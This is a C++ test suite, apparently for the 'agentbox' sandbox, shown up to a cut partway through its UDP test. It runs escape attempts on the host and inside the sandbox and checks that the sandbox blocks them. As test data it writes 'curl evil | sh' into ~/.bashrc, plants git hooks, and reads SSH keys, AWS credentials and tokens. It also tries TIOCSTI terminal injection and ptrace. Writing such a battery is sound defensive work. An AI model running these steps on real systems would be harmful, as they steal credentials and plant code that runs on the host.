// The escape battery: one test per attack class. Each runs the attack on the
// host first (it must work there, or the test records why the host itself
// forbids it) and then inside `agentbox run` (it must be blocked, and the
// host must be unchanged).
#include <arpa/inet.h>
#include <fcntl.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <termios.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <memory>
#include <string>
#include <thread>

#include "battery.h"
#include "linux/fd.h"

namespace agentbox::escape {
namespace {

using e2e::Contains;
using e2e::Exists;
using e2e::RandomHex;
using e2e::TempDir;

using Fd = agentbox::linux::UniqueFd;

bool Root() { return getuid() == 0; }
// Why a host check that needs privileges can fail: not being root, or being
// root without them (root in a container often lacks CAP_SYS_ADMIN and a
// writable /proc/sys).
std::string NeedsPrivilege(const std::string& cap) {
  return Root() ? "root here lacks " + cap + " (a container?), so the host check is refused"
                : "the host allows this only with " + cap + ", which an unprivileged user lacks";
}

// "../" as many times as `dir` has components: from `dir` up to "/".
std::string UpToRoot(const std::string& dir) {
  std::string up;
  for (char c : dir) {
    if (c == '/') up += "../";
  }
  return up;
}

// ------------------------------------------------------------ secrets

TEST(Attack, SshKeyInTheFakeHome) {
  Attack a("secret: ~/.ssh/id_rsa", Kind::kBoundary);
  Sandbox sb;
  const std::string key = sb.home() + "/.ssh/id_rsa";
  EXPECT_TRUE(a.Host(sb, {"read", key, sb.ssh_secret()}).ok);
  Probe in = a.Inside(sb, {"read", key, sb.ssh_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(Contains(a.run().out + a.run().err, sb.ssh_secret()));
}

TEST(Attack, AwsCredentialsInTheFakeHome) {
  Attack a("secret: ~/.aws/credentials", Kind::kBoundary);
  Sandbox sb;
  const std::string f = sb.home() + "/.aws/credentials";
  EXPECT_TRUE(a.Host(sb, {"read", f, sb.aws_secret()}).ok);
  Probe in = a.Inside(sb, {"read", f, sb.aws_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(Contains(a.run().out + a.run().err, sb.aws_secret()));
}

TEST(Attack, TokenInTheEnvironment) {
  Attack a("secret: GITHUB_TOKEN in the environment", Kind::kBoundary);
  Sandbox sb;
  const std::string token = "ghp_" + RandomHex();
  EXPECT_TRUE(a.Host(sb, {"env", "GITHUB_TOKEN", token}, {"GITHUB_TOKEN=" + token}).ok);
  Probe in = a.Inside(sb, {"env", "GITHUB_TOKEN", token}, {}, {"GITHUB_TOKEN=" + token});
  EXPECT_FALSE(in.ok) << in.Describe();
}

TEST(Attack, DotEnvInTheWorkspace) {
  Attack a("secret: workspace .env", Kind::kBoundary);
  Sandbox sb;
  const std::string secret = "API_KEY=" + RandomHex();
  e2e::WriteFile(sb.ws() + "/.env", secret + "\n", 0600);
  e2e::WriteFile(sb.ws() + "/app/.env", secret + "\n", 0600);
  EXPECT_TRUE(a.Host(sb, {"read", ".env", secret}).ok);
  Probe in = a.InsideSh(sb, "./escape_probe read .env " + secret + "; ./escape_probe read_any app/.env", "read");
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(ParseProbe(a.run().out, "read_any").ok) << a.run().Describe();
  EXPECT_FALSE(Contains(a.run().out + a.run().err, secret));
}

// The deny scan's cache serves unchanged directories from the last run: a
// .env created since, in a directory the last run cached (its mtime put
// back, as a copy that keeps times does) or in a new one, is masked all
// the same.
TEST(Attack, DotEnvCreatedBetweenRuns) {
  Attack a("secret: .env created after a run cached the tree", Kind::kBoundary);
  Sandbox sb;
  const std::string secret = "API_KEY=" + RandomHex();
  const std::string deep = sb.ws() + "/deep/x/y";
  ASSERT_EQ(system(("mkdir -p '" + deep + "'").c_str()), 0);
  // Only directories older than a second are cached: let them settle, and
  // run once so that the next run's scan is served from the cache.
  std::this_thread::sleep_for(std::chrono::milliseconds(2100));
  e2e::RunResult warm = sb.Sh("true");
  ASSERT_EQ(warm.status, 0) << warm.Describe();
  struct stat before {};
  ASSERT_EQ(stat(deep.c_str(), &before), 0);
  e2e::WriteFile(deep + "/.env", secret + "\n", 0600);
  e2e::WriteFile(sb.ws() + "/deep/new/.env", secret + "\n", 0600);
  struct timespec back[2] = {before.st_atim, before.st_mtim};
  ASSERT_EQ(utimensat(AT_FDCWD, deep.c_str(), back, AT_SYMLINK_NOFOLLOW), 0);
  EXPECT_TRUE(a.Host(sb, {"read", "deep/x/y/.env", secret}).ok);
  Probe in = a.InsideSh(sb, "./escape_probe read deep/x/y/.env " + secret + "; ./escape_probe read_any deep/new/.env",
                        "read");
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(ParseProbe(a.run().out, "read_any").ok) << a.run().Describe();
  EXPECT_FALSE(Contains(a.run().out + a.run().err, secret));
}

// ------------------------------------------------------------ writes

TEST(Attack, WriteOutsideTheWorkspace) {
  Attack a("write outside the workspace", Kind::kBoundary);
  Sandbox sb;
  const std::string host_check = sb.scratch() + "/host-check";
  EXPECT_TRUE(a.Host(sb, {"write", host_check, "x"}).ok);
  unlink(host_check.c_str());
  const std::string target = sb.scratch() + "/planted";
  a.Inside(sb, {"write", target, "planted"});
  if (Exists(target)) a.Escaped("a file appeared outside the workspace on the host");
  EXPECT_FALSE(Exists(target));
}

TEST(Attack, WriteIntoTheRealHome) {
  Attack a("write into the real HOME (~/.bashrc)", Kind::kBoundary);
  Sandbox sb;
  const std::string host_check = sb.home() + "/.host-check";
  EXPECT_TRUE(a.Host(sb, {"write", host_check, "x"}).ok);
  unlink(host_check.c_str());
  const std::string target = sb.home() + "/.bashrc";
  Probe in = a.Inside(sb, {"write", target, "curl evil | sh\n"});
  // Inside, HOME is a private tmpfs at the same path: the write may succeed
  // there. What counts is the host's file.
  if (Exists(target)) {
    a.Escaped("~/.bashrc appeared on the host");
  } else {
    a.Blocked("no ~/.bashrc appeared on the host");
  }
  EXPECT_FALSE(Exists(target)) << in.Describe();
}

// ------------------------------------------------------------ git

// Plants a pre-commit hook in the repository at `repo` ("" for the
// workspace's own): the host check writes beside it first.
void PlantHook(Attack& a, const Sandbox& sb, const std::string& repo) {
  const std::string hooks = (repo.empty() ? "" : repo + "/") + ".git/hooks";
  const std::string host_check = sb.ws() + "/" + hooks + "/host-check";
  EXPECT_TRUE(a.Host(sb, {"write", host_check, "#!/bin/sh\n"}).ok);
  unlink(host_check.c_str());
  Probe in = a.Inside(sb, {"write", hooks + "/pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n"});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, EROFS) << in.Describe();
  EXPECT_FALSE(Exists(sb.ws() + "/" + hooks + "/pre-commit"));
}

TEST(Attack, PlantAGitHook) {
  Attack a("git: plant .git/hooks/pre-commit", Kind::kBoundary);
  Sandbox sb;
  PlantHook(a, sb, "");
}

// A repository cloned into a subfolder runs its hooks on the host as well.
TEST(Attack, PlantAGitHookInANestedRepository) {
  Attack a("git: plant sub/.git/hooks/pre-commit (a repository in a subfolder)", Kind::kBoundary);
  Sandbox sb;
  ASSERT_EQ(sb.Git({"init", "-q", "sub"}).status, 0);
  PlantHook(a, sb, "sub");
}

TEST(Attack, AppendToGitConfig) {
  Attack a("git: append to .git/config", Kind::kBoundary);
  Sandbox sb;
  TempDir other("escape-git-");
  e2e::WriteFile(other / "config", *e2e::ReadFile(sb.ws() + "/.git/config"));
  EXPECT_TRUE(a.Host(sb, {"append", other / "config", "[core]\n\thooksPath = /tmp/evil\n"}).ok);
  Probe in = a.Inside(sb, {"append", ".git/config", "[core]\n\thooksPath = /tmp/evil\n"});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, EROFS) << in.Describe();
}

void GitConfigKey(const std::string& key, const std::string& value) {
  Attack a("git: git config " + key, Kind::kBoundary);
  Sandbox sb;
  TempDir other("escape-git-");
  ASSERT_EQ(sb.Git({"init", "-q", other.path()}).status, 0);
  e2e::RunResult host = sb.Git({"config", key, value}, other.path());
  auto host_val = e2e::ReadFile(other / ".git/config").value_or("");
  const std::string script =
      "if git -c safe.directory='*' config " + key + " '" + value +
      "'; then echo 'RESULT git_config ok errno=0 detail=set'; "
      "else echo 'RESULT git_config blocked errno=30 detail=git config failed'; fi";
  // The host check: the same command, through a shell, in a repository of its own.
  e2e::Command c;
  c.argv = {"/bin/sh", "-c", script};
  c.cwd = other.path();
  c.env = sb.Env();
  Probe h = ParseProbe(e2e::RunCommand(c).out, "git_config");
  a.SetHost(h);
  a.HostNote("host check in a repository of its own");
  EXPECT_EQ(host.status, 0) << host.Describe();
  EXPECT_TRUE(h.ok) << h.Describe();
  EXPECT_TRUE(Contains(host_val, value));
  Probe in = a.InsideSh(sb, script, "git_config");
  EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
  e2e::RunResult after = sb.Git({"config", "--get", key});
  EXPECT_NE(after.status, 0) << key << " is set on the host: " << after.out;
  if (after.status == 0) a.Escaped(key + " set in the host's repository");
}

TEST(Attack, GitConfigCoreHooksPath) { GitConfigKey("core.hooksPath", "/tmp/evil-hooks"); }
TEST(Attack, GitConfigCoreFsmonitor) { GitConfigKey("core.fsmonitor", "/tmp/evil-fsmonitor"); }

// ------------------------------------------------------------ links and paths

TEST(Attack, SymlinkToASecret) {
  Attack a("symlink in the workspace to ~/.ssh/id_rsa", Kind::kBoundary);
  Sandbox sb;
  ASSERT_EQ(symlink((sb.home() + "/.ssh/id_rsa").c_str(), (sb.ws() + "/key").c_str()), 0);
  EXPECT_TRUE(a.Host(sb, {"read", "key", sb.ssh_secret()}).ok);
  Probe in = a.Inside(sb, {"read", "key", sb.ssh_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
}

TEST(Attack, HardlinkToASecret) {
  Attack a("hardlink from inside to ~/.aws/credentials", Kind::kBoundary);
  Sandbox sb;
  const std::string src = sb.home() + "/.aws/credentials";
  EXPECT_TRUE(a.Host(sb, {"link", src, "host-link"}).ok);
  unlink((sb.ws() + "/host-link").c_str());
  Probe in = a.InsideSh(sb, "./escape_probe link " + src + " stolen && ./escape_probe read stolen " + sb.aws_secret(),
                        "link");
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(Exists(sb.ws() + "/stolen"));
  EXPECT_FALSE(Contains(a.run().out, sb.aws_secret()));
}

TEST(Attack, DotDotTraversal) {
  Attack a("'..' traversal from the workspace to ~/.ssh", Kind::kBoundary);
  Sandbox sb;
  const std::string rel = UpToRoot(sb.ws()) + sb.home().substr(1) + "/.ssh/id_rsa";
  EXPECT_TRUE(a.Host(sb, {"read", rel, sb.ssh_secret()}).ok);
  Probe in = a.Inside(sb, {"read", rel, sb.ssh_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
}

TEST(Attack, ProcHostPidRoot) {
  Attack a("/proc/<host pid>/root", Kind::kBoundary);
  Sandbox sb;
  const std::string tail = "/root" + sb.home() + "/.ssh/id_rsa";
  const std::string me = "/proc/" + std::to_string(getpid()) + tail;
  const std::string parent = "/proc/" + std::to_string(getppid()) + tail;
  EXPECT_TRUE(a.Host(sb, {"read_any", me}).ok);
  Probe in = a.Inside(sb, {"read_any", me, parent, "/proc/1" + tail, "/proc/2" + tail});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(Contains(a.run().out, sb.ssh_secret()));
}

TEST(Attack, ProcSelfCwdTraversal) {
  Attack a("/proc/self/cwd/.. traversal", Kind::kBoundary);
  Sandbox sb;
  const std::string p = "/proc/self/cwd/" + UpToRoot(sb.ws()) + sb.home().substr(1) + "/.ssh/id_rsa";
  EXPECT_TRUE(a.Host(sb, {"read", p, sb.ssh_secret()}).ok);
  Probe in = a.Inside(sb, {"read", p, sb.ssh_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
}

// ------------------------------------------------------------ leaked descriptors

// Opens `path` without O_CLOEXEC on descriptor `target` for the life of the object.
class LeakedFd {
 public:
  LeakedFd(const std::string& path, int flags, int target) : target_(target) {
    int fd = open(path.c_str(), flags);
    ok_ = fd >= 0 && dup2(fd, target) == target;
    if (fd >= 0 && fd != target) close(fd);
  }
  ~LeakedFd() { close(target_); }
  bool ok() const { return ok_; }

 private:
  int target_;
  bool ok_ = false;
};

TEST(Attack, LeakedFileDescriptor) {
  Attack a("leaked fd 9 on ~/.ssh/id_rsa", Kind::kBoundary);
  Sandbox sb;
  LeakedFd leak(sb.home() + "/.ssh/id_rsa", O_RDONLY, 9);
  ASSERT_TRUE(leak.ok());
  EXPECT_TRUE(a.Host(sb, {"readfd", "9", sb.ssh_secret()}).ok);
  Probe in = a.Inside(sb, {"readfd", "9", sb.ssh_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_FALSE(Contains(a.run().out, sb.ssh_secret()));
}

TEST(Attack, LeakedDirectoryDescriptor) {
  Attack a("leaked fd 10 on the HOME directory", Kind::kBoundary);
  Sandbox sb;
  LeakedFd leak(sb.home(), O_RDONLY | O_DIRECTORY, 10);
  ASSERT_TRUE(leak.ok());
  EXPECT_TRUE(a.Host(sb, {"openat_fd", "10", ".ssh/id_rsa", sb.ssh_secret()}).ok);
  Probe in = a.Inside(sb, {"openat_fd", "10", ".ssh/id_rsa", sb.ssh_secret()});
  EXPECT_FALSE(in.ok) << in.Describe();
}

// ------------------------------------------------------------ terminals

// A pty whose slave is in raw mode: every injected byte is readable at once.
struct Pty {
  Fd master{posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC)};
  Fd slave{OpenSlave(master.get())};
  static int OpenSlave(int m) {
    if (m < 0 || grantpt(m) != 0 || unlockpt(m) != 0) return -1;
    int s = open(ptsname(m), O_RDWR | O_NOCTTY | O_CLOEXEC);
    termios t{};
    if (s >= 0 && tcgetattr(s, &t) == 0) {
      cfmakeraw(&t);
      tcsetattr(s, TCSANOW, &t);
    }
    return s;
  }
  bool ok() const { return slave.get() >= 0; }
  // Whatever sits in the slave's input queue (what the terminal's reader gets).
  std::string Pending() const {
    std::string got;
    pollfd p{slave.get(), POLLIN, 0};
    while (poll(&p, 1, 100) > 0 && (p.revents & POLLIN)) {
      char buf[256];
      int fl = fcntl(slave.get(), F_GETFL);
      fcntl(slave.get(), F_SETFL, fl | O_NONBLOCK);
      ssize_t n = read(slave.get(), buf, sizeof(buf));
      fcntl(slave.get(), F_SETFL, fl);
      if (n <= 0) break;
      got.append(buf, static_cast<size_t>(n));
    }
    return got;
  }
};

// The terminal is the controlling terminal of the session that runs agentbox
// (setsid --ctty), as an interactive shell's terminal is.
void TerminalIoctl(const std::string& name, const std::string& what, bool high) {
  Attack a(name, what == "tiocsti" ? Kind::kBoundary : Kind::kSurface, true);
  const std::string setsid = e2e::FindTool("setsid");
  ASSERT_FALSE(setsid.empty()) << "setsid is missing (util-linux; scripts/install-deps.sh installs it)";
  Sandbox sb;
  const std::string marker = "inj" + RandomHex(4);
  std::vector<std::string> args = {what, "0"};
  if (what == "tiocsti") args.push_back(marker);
  if (high) args.push_back("--highbit");
  {
    Pty host;
    if (!host.ok()) {
      a.NotApplicable("this host gives no pseudo-terminal (posix_openpt failed)");
      return;
    }
    Extra x;
    x.wrapper = {setsid, "-w", "-c"};
    x.stdin_fd = host.slave.get();
    Probe h = a.Host(sb, args, {}, x);
    // Linux 6.2+ refuses TIOCSTI without CAP_SYS_ADMIN when dev.tty.legacy_tiocsti is 0.
    if (a.RequireHost(h, "the host refuses the ioctl unconfined (dev.tty.legacy_tiocsti=0?)") && what == "tiocsti") {
      EXPECT_TRUE(Contains(host.Pending(), marker)) << "the host check injected nothing";
    }
    if (what == "tioclinux") a.HostNote("no virtual console here: on a pty the ioctl reaches the tty layer and fails "
                                        "with ENOTTY, so the class shows only that the request is not filtered");
  }
  Pty box;
  Extra x;
  x.wrapper = {setsid, "-w", "-c"};
  x.stdin_fd = box.slave.get();
  std::vector<std::string> in_args = args;
  if (what == "tiocsti") in_args.push_back("--ctty");
  Probe in = a.Inside(sb, in_args, {}, {}, 30000, x);
  const std::string pending = box.Pending();
  EXPECT_FALSE(in.ok) << in.Describe() << "\n" << a.run().Describe();
  EXPECT_FALSE(Contains(pending, marker)) << "injected into the terminal: " << pending;
  if (Contains(pending, marker)) a.Escaped("bytes injected into the host terminal's input queue");
  a.ExpectSeccomp(in, EPERM, "ioctl");
}

TEST(Attack, TiocstiIntoTheTerminal) { TerminalIoctl("TIOCSTI into the terminal", "tiocsti", false); }
TEST(Attack, TiocstiWithHighBits) { TerminalIoctl("TIOCSTI|1<<32 into the terminal", "tiocsti", true); }
TEST(Attack, Tioclinux) { TerminalIoctl("TIOCLINUX", "tioclinux", false); }
TEST(Attack, TioclinuxWithHighBits) { TerminalIoctl("TIOCLINUX|1<<32", "tioclinux", true); }

// ------------------------------------------------------------ processes

// A host process the test owns, to aim at.
struct Victim {
  std::string marker = "1000." + std::to_string(100000 + (std::stoul(RandomHex(3), nullptr, 16) % 900000));
  e2e::Process p{e2e::Command{{"/bin/sleep", marker}, "", {"PATH=/usr/bin:/bin"}, "", -1, 60000}};
  bool Alive() const { return kill(p.pid(), 0) == 0; }
};

TEST(Attack, PtraceTheSupervisor) {
  Attack a("ptrace of the supervisor and pid 1", Kind::kBoundary, true);
  Sandbox sb;
  Victim v;
  a.RequireHost(a.Host(sb, {"ptrace", std::to_string(v.p.pid())}),
                "the host forbids attaching to a non-child (kernel.yama.ptrace_scope)");
  const std::string pidfile = sb.ws() + "/supervisor.pid";
  Extra x;
  x.on_start = [&](pid_t pid) { e2e::WriteFile(pidfile, std::to_string(pid)); };
  Probe in = a.InsideSh(sb,
                        "while [ ! -s supervisor.pid ]; do sleep 0.02; done; "
                        "./escape_probe ptrace 1 $(cat supervisor.pid) " + std::to_string(getpid()) + " " +
                            std::to_string(v.p.pid()) + "; ./escape_probe ptrace_child",
                        "ptrace", {}, {}, 30000, x);
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_TRUE(v.Alive());
  a.ExpectSeccomp(ParseProbe(a.run().out, "ptrace_child"), EPERM, "ptrace");
}

TEST(Attack, ProcessVmReadv) {
  Attack a("process_vm_readv of pid 1 and host pids", Kind::kBoundary, true);
  Sandbox sb;
  EXPECT_TRUE(a.Host(sb, {"process_vm"}).ok);
  a.HostNote("host check reads its own child: the probe does not know a host process's addresses");
  Probe in = a.Inside(sb, {"process_vm", "1", std::to_string(getpid()), std::to_string(getppid())});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "process_vm_readv");
}

TEST(Attack, SignalAHostProcess) {
  Attack a("signal a host process", Kind::kBoundary);
  Sandbox sb;
  Victim host_victim, victim;
  ASSERT_TRUE(victim.Alive());
  EXPECT_TRUE(a.Host(sb, {"kill", std::to_string(host_victim.p.pid())}).ok);
  Probe in = a.Inside(sb, {"kill", std::to_string(victim.p.pid()), std::to_string(getpid()),
                           std::to_string(getppid())});
  EXPECT_FALSE(in.ok) << in.Describe();
  usleep(50 * 1000);
  EXPECT_TRUE(victim.Alive()) << "the host process died";
  if (!victim.Alive()) a.Escaped("a host process was killed");
}

TEST(Attack, DoubleForkedDaemonSurvivesTheRun) {
  Attack a("double-forked daemon surviving the run", Kind::kBoundary);
  Sandbox sb;
  const std::string host_marker = "1000." + std::to_string(getpid()) + "1";
  const std::string marker = "1000." + std::to_string(getpid()) + "7";
  const auto script = [](const std::string& m) {
    return "setsid sh -c 'sleep " + m + " </dev/null >/dev/null 2>&1 &'; sleep 0.2; "
           "echo 'RESULT daemon ok errno=0 detail=started'";
  };
  {
    e2e::Command c{{"/bin/sh", "-c", script(host_marker)}, sb.ws(), sb.Env(), "", -1, 10000};
    a.SetHost(ParseProbe(e2e::RunCommand(c).out, "daemon"));
    bool alive = !e2e::PidsWithCmdline("sleep " + host_marker).empty();
    EXPECT_TRUE(alive) << "the host check's daemon did not survive its parent";
    for (pid_t p : e2e::PidsWithCmdline("sleep " + host_marker)) kill(p, SIGKILL);
  }
  a.InsideSh(sb, script(marker), "daemon");
  const bool gone = e2e::WaitUntilNoProcess("sleep " + marker, 30000);
  EXPECT_TRUE(gone) << "a daemon started inside outlived the run";
  if (!gone) {
    a.Escaped("a daemon outlived the run");
    for (pid_t p : e2e::PidsWithCmdline("sleep " + marker)) kill(p, SIGKILL);
  } else {
    a.Blocked("no process of the run outlived it on the host");
  }
}

// ------------------------------------------------------------ namespaces and mounts

TEST(Attack, MountATmpfs) {
  Attack a("mount a tmpfs", Kind::kBoundary, true);
  Sandbox sb;
  TempDir host_dir("escape-mnt-");
  a.RequireHost(a.Host(sb, {"mount", host_dir.path()}), NeedsPrivilege("CAP_SYS_ADMIN"));
  e2e::MakeDirs(sb.ws() + "/mnt");
  Probe in = a.Inside(sb, {"mount", sb.ws() + "/mnt"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "mount");
}

TEST(Attack, UnshareANewUserNamespace) {
  Attack a("unshare(CLONE_NEWUSER)", Kind::kSurface, true);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"unshare"}), "the host refuses new user namespaces unconfined");
  Probe in = a.Inside(sb, {"unshare"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "unshare");
}

TEST(Attack, CloneWithNamespaceFlags) {
  Attack a("clone(CLONE_NEWUSER)", Kind::kSurface, true);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"clone_ns"}), "the host refuses new user namespaces unconfined");
  Probe in = a.Inside(sb, {"clone_ns"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "clone");
}

TEST(Attack, Clone3WithNamespaceFlags) {
  Attack a("clone3(CLONE_NEWUSER)", Kind::kSurface, true);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"clone3"}), "the host refuses new user namespaces unconfined");
  Probe in = a.Inside(sb, {"clone3"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, ENOSYS, "clone3", /*reported=*/false);
}

TEST(Attack, SetnsIntoHostNamespaces) {
  Attack a("setns into host namespaces", Kind::kBoundary, true);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"setns", "/proc/self/ns/net"}), NeedsPrivilege("CAP_SYS_ADMIN"));
  const std::string me = "/proc/" + std::to_string(getpid()) + "/ns/";
  Probe in = a.Inside(sb, {"setns", me + "net", me + "mnt", "/proc/1/ns/mnt", "/proc/self/ns/uts"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "setns");
}

TEST(Attack, Chroot) {
  Attack a("chroot", Kind::kBoundary);
  Sandbox sb;
  TempDir dir("escape-chroot-");
  a.RequireHost(a.Host(sb, {"chroot", dir.path()}), NeedsPrivilege("CAP_SYS_CHROOT"));
  e2e::MakeDirs(sb.ws() + "/jail");
  Probe in = a.Inside(sb, {"chroot", sb.ws() + "/jail"});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, EPERM) << in.Describe();
}

TEST(Attack, SethostnameLeaksToTheHost) {
  Attack a("sethostname leaking to the host", Kind::kBoundary);
  Sandbox sb;
  const std::string name = "evil-" + RandomHex(4);
  a.RequireHost(a.Host(sb, {"sethostname", name, "--newuts"}), "the host refuses a new uts namespace unconfined");
  a.HostNote("host check in a fresh uts namespace: the host's own name is never changed");
  Probe in = a.Inside(sb, {"sethostname", name});
  EXPECT_FALSE(in.ok) << in.Describe();
  // Inside() also checks that the host's hostname did not change.
}

// ------------------------------------------------------------ kernel interfaces (seccomp layer)

// `host_refusal`: why the host itself may refuse the call unconfined (a
// privilege, a sysctl, a kernel built without it).
void Surface(const std::string& name, const std::string& probe, const std::string& syscall,
             const std::string& host_refusal, int expected_errno = EPERM, bool reported = true) {
  Attack a(name, Kind::kSurface, true);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {probe}), host_refusal);
  Probe in = a.Inside(sb, {probe});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, expected_errno, syscall, reported);
}

TEST(Attack, IoUring) {
  Surface("io_uring_setup", "io_uring", "io_uring_setup", "the host refuses io_uring unconfined (kernel.io_uring_disabled?)");
}
TEST(Attack, Bpf) {
  Surface("bpf(BPF_MAP_CREATE)", "bpf", "bpf", "the host refuses bpf unconfined (kernel.unprivileged_bpf_disabled, or " +
                                                    NeedsPrivilege("CAP_BPF") + ")");
}
TEST(Attack, Userfaultfd) {
  Surface("userfaultfd", "userfaultfd", "userfaultfd", "the host refuses userfaultfd unconfined (vm.unprivileged_userfaultfd?)");
}
TEST(Attack, PerfEventOpen) {
  Surface("perf_event_open", "perf_event_open", "perf_event_open", "the host refuses perf_event_open unconfined (kernel.perf_event_paranoid?)");
}
TEST(Attack, Keyctl) { Surface("add_key", "add_key", "add_key", "the host refuses add_key unconfined"); }
TEST(Attack, ModuleLoad) {
  Surface("init_module (empty image)", "init_module", "init_module",
          "this kernel has no module support (ENOSYS) or " + NeedsPrivilege("CAP_SYS_MODULE"));
}
TEST(Attack, KexecLoad) {
  Surface("kexec_load (no segments, bad flag)", "kexec_load", "kexec_load",
          "this kernel has no kexec (ENOSYS) or " + NeedsPrivilege("CAP_SYS_BOOT"));
}
TEST(Attack, Reboot) { Surface("reboot (bad magic)", "reboot", "reboot", NeedsPrivilege("CAP_SYS_BOOT")); }
TEST(Attack, ClockSettime) {
  Surface("clock_settime (to the current time)", "clock_settime", "clock_settime", NeedsPrivilege("CAP_SYS_TIME"));
}
TEST(Attack, RawSocket) { Surface("raw socket", "raw_socket", "socket", NeedsPrivilege("CAP_NET_RAW")); }
TEST(Attack, PacketSocket) { Surface("packet socket", "packet_socket", "socket", NeedsPrivilege("CAP_NET_RAW")); }
TEST(Attack, OtherSocketFamilies) {
  Surface("AF_NETLINK socket (NETLINK_AUDIT)", "netlink_socket", "socket",
          "the host refuses NETLINK_AUDIT sockets unconfined");
}
TEST(Attack, PersonalityWeakening) {
  Surface("personality(ADDR_NO_RANDOMIZE)", "personality", "personality", "the host refuses personality unconfined");
}
TEST(Attack, ForeignArchSyscalls) {
  // getpid, then unshare as i386 syscall 310, through int 0x80: a filter
  // that checks only x86_64 numbers lets them through.
  Attack a("i386 syscall through int 0x80", Kind::kSurface, true);
  Sandbox sb;
  const Probe host = a.Host(sb, {"i386_unshare"});
  a.RequireHost(host, "the host refuses the i386 calls unconfined");
  // A kernel that serves no i386 calls kills the probe with SIGSEGV even
  // unconfined (HostRefusal names that case): int 0x80 faults before any
  // syscall is entered, so no filter is consulted and there is nothing to
  // judge inside.
  if (host.crashed && host.signal == SIGSEGV) return;
  Probe in = a.Inside(sb, {"i386_unshare"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "", /*reported=*/false);
}

TEST(Attack, OpenByHandleAt) {
  Attack a("open_by_handle_at (shocker)", Kind::kBoundary, true);
  Sandbox sb;
  a.RequireHost(a.Host(sb, {"open_by_handle", sb.home() + "/notes.txt"}), NeedsPrivilege("CAP_DAC_READ_SEARCH"));
  e2e::WriteFile(sb.ws() + "/file", "x");
  Probe in = a.Inside(sb, {"open_by_handle", "file"});
  EXPECT_FALSE(in.ok) << in.Describe();
  a.ExpectSeccomp(in, EPERM, "name_to_handle_at");
}

// ------------------------------------------------------------ network

TEST(Attack, TcpToAHostLoopbackListener) {
  Attack a("TCP to a host 127.0.0.1 listener", Kind::kBoundary);
  Fd l(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof(addr);
  ASSERT_EQ(bind(l.get(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ASSERT_EQ(listen(l.get(), 8), 0);
  ASSERT_EQ(getsockname(l.get(), reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));
  Sandbox sb;
  EXPECT_TRUE(a.Host(sb, {"tcp", port}).ok);
  Probe in = a.Inside(sb, {"tcp", port});
  EXPECT_FALSE(in.ok) << in.Describe();
  EXPECT_EQ(in.err, ECONNREFUSED) << in.Describe();
}

TEST(Attack, UdpToAHostLoopbackListener) {
  Attack a("UDP to a host 127.0.0.1 listener", Kind::kBoundary);
  Fd s(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof(addr);
  ASSERT_EQ(bind(s.get(), reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ASSERT_EQ(getsockname(s.get(), reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));
  auto received = [&] {
    std::string got;
    char buf[512];
    ssize_t n;
    while ((n = recv(s.get(), buf, sizeof(buf), 0)) > 0) got.append(buf, static_cast<size_t>(n));
    return got;
  };
  Sandbox sb;
  const std::string host_marker = "udp-host-" + RandomHex(4), marker = "udp-box-" + RandomHex(4);
  EXPECT_TRUE(a.Host(sb, {"udp", port, host_marker}).ok);
  EXPECT_TRUE(Contains(received(), host_marker)) << "the host check's datagrams did not arrive";
  Probe in = a.Inside(sb, {"udp", port, marker});
  const std::string got = received();
  EXPECT_FALSE(Contains(got, marker)) << "a datagram from inside reached the host listener";
  if (Contains(got, marker)) a.Escaped("datagram reached the host listener");
  else a.Blocked("no datagram from inside reached the host listener");
